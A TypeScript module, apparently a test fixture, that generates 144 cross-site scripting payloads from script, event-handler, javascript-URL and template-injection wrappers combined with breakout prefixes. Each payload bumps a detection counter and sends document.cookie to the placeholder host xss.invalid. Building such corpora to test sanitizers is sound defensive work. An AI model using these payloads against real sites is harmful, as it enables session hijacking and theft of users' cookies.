/** What a text would do if it ever became more than text: it counts itself, and calls out. */
const ACT = "window.__xss=(window.__xss||0)+1;new Image().src='http://xss.invalid/'+document.cookie";

const WRAPPERS: readonly ((act: string) => string)[] = [
  (act) => `<script>${act}</script>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<svg onload="${act}">`,
  (act) => `<svg><script>${act}</script></svg>`,
  (act) => `<body onload="${act}">`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>">`,
  (act) => `<iframe src="javascript:${act}">`,
  (act) => `<a href="javascript:${act}">open</a>`,
  (act) => `<details open ontoggle="${act}">`,
  (act) => `<input autofocus onfocus="${act}">`,
  (act) => `<video><source onerror="${act}"></video>`,
  (act) => `<math><mi xlink:href="javascript:${act}">x</mi></math>`,
  (act) => `<object data="javascript:${act}">`,
  (act) => `<embed src="javascript:${act}">`,
  (act) => `<form action="javascript:${act}"><button>go</button></form>`,
  (act) => `<style>@import 'http://xss.invalid/x.css';</style><b onclick="${act}">`,
  (act) => `<link rel=stylesheet href="http://xss.invalid/x.css" onerror="${act}">`,
  (act) => `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  (act) => `<base href="http://xss.invalid/"><img src=y onerror="${act}">`,
  (act) => `<template><img src=x onerror="${act}"></template>`,
  (act) => `<noscript><p title="</noscript><img src=x onerror='${act}'>">`,
  (act) => `{{constructor.constructor("${act}")()}}`,
  (act) => `\${${act}}`,
  (act) => `javascript:${act}//`,
];

const BREAKOUTS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `"><${text}`,
  (text) => `'>${text}`,
  (text) => `</textarea></title></script>${text}`,
  (text) => `--><!--${text}`,
  (text) => `\u202e${text}\u0000\u2028`,
];

/** 144 texts that try to be more than text. */
export const XSS: readonly string[] = WRAPPERS.flatMap((wrap) =>
  BREAKOUTS.map((breakOut) => breakOut(wrap(ACT))),
);
